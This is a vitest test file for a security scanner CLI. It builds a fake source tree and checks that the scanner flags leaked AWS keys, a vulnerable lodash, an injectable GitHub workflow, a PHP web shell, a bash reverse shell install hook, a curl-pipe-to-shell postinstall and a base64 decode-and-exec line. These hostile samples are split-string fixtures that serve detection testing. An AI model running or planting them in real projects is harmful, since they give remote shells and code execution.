import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { temporaryDirectory } from "@bulwark/image/testing";
import type { ScanReport } from "@bulwark/model";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { bulwark, scanJson } from "./support/cli.ts";

const directory = temporaryDirectory();
const at = (name: string) => join(directory.path, name);
const cache = at("cache");
const tree = `dir:${at("project")}`;
/** Put together here, so that this file holds nothing that looks like a live key or malware itself. */
const SECRET = ["AKIA", "2E0A8F3B", "244C9986"].join("");
const WEB_SHELL = ["<?ph", "p sys", "tem($_G", "ET['c']); ?>\n"].join("");
const REVERSE_SHELL = ["bas", "h -i >& /dev/t", "cp/203.0.113.7/1 0>&1"].join("");
const PIPED = ["cu", "rl -sSf https://get.example/i.sh | s", "h"].join("");
const DECODED = ["ex", "ec(base", "64.b64", "decode('cHJpbnQoMSk='))"].join("");
const SECRET_LINE = `aws_access_key_id = ${SECRET}\n`;

const OUTSIDE = {
  version: "2.1.0",
  runs: [
    {
      tool: {
        driver: { name: "Looker", version: "3.1", rules: [{ id: "L1", properties: { "security-severity": "7.5" } }] },
      },
      results: [
        {
          ruleId: "L1",
          message: { text: "The query is put together from input." },
          locations: [{ physicalLocation: { artifactLocation: { uri: "src/db.js" }, region: { startLine: 12 } } }],
        },
        { ruleId: "L1", message: { text: "Known." }, suppressions: [{ kind: "inSource", justification: "reviewed" }] },
      ],
    },
  ],
};

function lock(packages: Readonly<Record<string, string>>): string {
  const entries = Object.entries(packages).map(([name, version]) => [`node_modules/${name}`, { version }]);
  return JSON.stringify({ name: "app", version: "1.0.0", lockfileVersion: 3, packages: Object.fromEntries(entries) });
}

function writeTree(name: string, files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(at(join(name, path))), { recursive: true });
    writeFileSync(at(join(name, path)), text);
  }
}

function places(report: ScanReport, kind: string): readonly string[] {
  return report.findings
    .filter((finding) => finding.kind === kind)
    .map(({ id, path = "", line = 0 }) => `${id} ${path}:${line}`);
}

beforeAll(() => {
  writeTree("project", {
    "package-lock.json": lock({ lodash: "4.17.4" }),
    "package.json": `{\n  "name": "app",\n  "scripts": {\n    "test": "vitest",\n    "postinstall": "${PIPED}"\n  }\n}\n`,
    "lib/settings.ini": SECRET_LINE,
    ".env.local": SECRET_LINE,
    ".gitignore": ".env.local\nnode_modules/\n",
    ".git/config": SECRET_LINE,
    ".github/workflows/ci.yml": `on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: someone/action@v1\n      - run: |\n          echo ${"$"}{{ github.event.pull_request.title }}\n`,
    "tools/setup.py": `import base64\n${DECODED}\n`,
    "node_modules/evil/package.json": JSON.stringify({
      name: "lodash",
      version: "4.17.4",
      scripts: { install: REVERSE_SHELL },
    }),
    "web/up.php": WEB_SHELL,
    "var/lib/dpkg/status": "Package: bash\nStatus: install ok installed\nVersion: 5.2-1\nArchitecture: amd64\n\n",
    "var/lib/dpkg/info/app.list": "/web/up.php\n/lib/settings.ini\n",
    "etc/os-release": 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian 12"\n',
    "src/main/java/App.java": "class App { public static void main(String[] a) {} }\n",
  });
  writeTree("outside", { "keys.ini": SECRET_LINE });
  symlinkSync(at("outside/keys.ini"), at("project/keys.ini"));
  symlinkSync(at("outside"), at("project/linked"));
  writeFileSync(at("looker.sarif"), JSON.stringify(OUTSIDE));
});
afterAll(() => directory.remove());

describe("a source tree", () => {
  let report: ScanReport;
  beforeAll(async () => {
    report = await scanJson(cache, [tree, "--kind", "source", "--sarif", at("looker.sarif")]);
  });

  test("is one layer of the team's own, without an operating system", () => {
    expect(report.image).toMatchObject({ kind: "source", reference: tree, os: null, base: null, platform: "" });
    expect(report.image.layers).toMatchObject([{ createdBy: "the tree", origin: "own" }]);
    expect(report.findings.every(({ origin, layer }) => origin === "own" && layer === 0)).toBe(true);
    expect(report.problems).toEqual([]);
  });

  test("has the packages of its lock file and no others, with advice for the manifest", () => {
    expect(report.packages).toMatchObject([{ purl: "pkg:npm/lodash@4.17.4", path: "/package-lock.json" }]);
    expect(report.findings.find(({ id }) => id === "CVE-2019-10744")?.advice).toBe(
      "Upgrade lodash to 4.17.12 or later in the manifest, and have its package manager write package-lock.json again.",
    );
  });

  test("tells secrets, also those that git ignores and says so, and neither history nor what links lead to", () => {
    const secrets = report.findings.filter(({ kind }) => kind === "secret");
    const byPath = new Map(secrets.map(({ path, evidence }) => [path, evidence?.detail ?? ""]));
    expect([...byPath.keys()].sort()).toEqual(["/.env.local", "/lib/settings.ini"]);
    expect(byPath.get("/.env.local")).toMatch(/ignored by git$/);
    expect(byPath.get("/lib/settings.ini")).not.toMatch(/ignored/);
    expect(secrets.every(({ advice }) => /stays in the history/.test(advice))).toBe(true);
    expect(JSON.stringify(report)).not.toContain(SECRET);
  });

  test("tells dangerous install scripts, build code, pipelines and web shells with file and line", () => {
    expect(places(report, "malware")).toContain("build-code-decode-and-run /tools/setup.py:2");
    expect(places(report, "webshell").some((place) => place.includes("/web/up.php"))).toBe(true);
    expect(places(report, "misconfiguration")).toEqual([
      "workflow-script-injection-privileged /.github/workflows/ci.yml:7",
      "workflow-unpinned-action /.github/workflows/ci.yml:5",
      "install-script-fetch-and-run /package.json:5",
      "L1 /src/db.js:12",
    ]);
  });

  test("shows what another analyser found beside it, and what is suppressed there as suppressed", () => {
    expect(report.findings.find(({ id }) => id === "L1")).toMatchObject({
      severity: "high",
      title: "The query is put together from input.",
      evidence: { foundBy: "Looker", version: "3.1" },
    });
    expect(report.suppressed).toMatchObject([{ by: "analyser", source: at("looker.sarif"), reason: "reviewed" }]);
  });

  test("its SARIF output, taken in again, gives as many results", async () => {
    const args = [tree, "--kind", "source"];
    writeTree("empty", { "README.md": "Nothing.\n" });
    await bulwark(cache, ["scan", ...args, "--format", "sarif", "--output", at("ours.sarif")]);
    const first = await scanJson(cache, args);
    const uris = new Set(readFileSync(at("ours.sarif"), "utf8").match(/"uriBaseId": "[^"]+"/g));
    expect(uris).toEqual(new Set(['"uriBaseId": "%SRCROOT%"']));
    const again = await scanJson(cache, [`dir:${at("empty")}`, "--kind", "source", "--sarif", at("ours.sarif")]);
    expect(again.findings).toHaveLength(first.findings.length);
    expect(new Set(again.findings.map(({ evidence }) => evidence?.foundBy))).toEqual(new Set(["Bulwark"]));
  });

  test("at a terminal it is called a source tree, without layers", async () => {
    const { stdout } = await bulwark(cache, ["scan", "--kind", "source", "--sarif", at("looker.sarif"), tree]);
    expect(stdout).toMatch(/source tree, 1 packages/);
    expect(stdout).toMatch(/In the tree: /);
    expect(stdout).not.toMatch(/layer 0|operating system/);
    expect(stdout).toMatch(/1 suppressed: in .*looker\.sarif/);
  });

  test("with --include-installed what is installed is read too", async () => {
    const installed = await scanJson(cache, [tree, "--kind", "source", "--include-installed"]);
    expect(places(installed, "malware")).toContain("install-script-reverse-shell /node_modules/evil/package.json:1");
    expect(installed.packages.map(({ path }) => path)).toContain("/node_modules/evil/package.json");
  });
});

test("installed packages that no lock file names make the report incomplete", async () => {
  writeTree("unlocked", {
    "a/node_modules/x/package.json": '{"name":"x","version":"1.0.0"}',
    "b/node_modules/y/package.json": '{"name":"y","version":"1.0.0"}',
    "b/yarn.lock": "# yarn lockfile v1\n",
  });
  const report = await scanJson(cache, [`dir:${at("unlocked")}`, "--kind", "source", "--scanners", "vuln"]);
  expect(report.problems).toMatchObject([{ path: "/a/node_modules", what: expect.stringMatching(/no lock file/) }]);
});

test("results of another analyser stand beside those of an image as well, in its own part", async () => {
  const report = await scanJson(cache, [`dir:${at("project")}`, "--sarif", at("looker.sarif")]);
  expect(report.image.kind).toBeUndefined();
  expect(report.findings.find(({ id }) => id === "L1")).toMatchObject({ origin: "own", path: "/src/db.js" });
  expect(report.findings.map(({ id }) => id)).toContain("install-script-reverse-shell");
});

describe("wrong calls end with status 2 and say why", () => {
  test.each([
    [["image.tar", "--kind", "source"], /--kind source reads a directory, not image\.tar/],
    [[tree, "--kind", "sauce"], /--kind knows no "sauce"/],
    [[tree, "--kind", "source", "--base", "a:1"], /a source tree has no --base/],
    [[tree, "--include-installed"], /--include-installed goes with --kind source/],
    [[tree, "--sarif", "/nowhere.sarif"], /the SARIF file \/nowhere\.sarif cannot be read/],
    [[tree, "--sarif", at("project/package.json")], /package\.json cannot be taken in: it is no SARIF log/],
    [["dir:/nowhere-at-all", "--kind", "source"], /\/nowhere-at-all cannot be read/],
  ])("%j", async (args, why) => {
    const { status, stderr } = await bulwark(cache, ["scan", ...args]);
    expect(status).toBe(2);
    expect(stderr).toMatch(why);
  });
});

test("several SARIF files may follow one option, and the help tells of it", async () => {
  writeFileSync(at("second.sarif"), JSON.stringify(OUTSIDE));
  const report = await scanJson(cache, ["--kind", "source", tree, "--sarif", at("looker.sarif"), at("second.sarif")]);
  expect(report.findings.filter(({ id }) => id === "L1")).toHaveLength(2);
  expect((await bulwark(cache, ["scan", "--help"])).stdout).toMatch(/--kind KIND[\s\S]*--sarif FILE/);
});
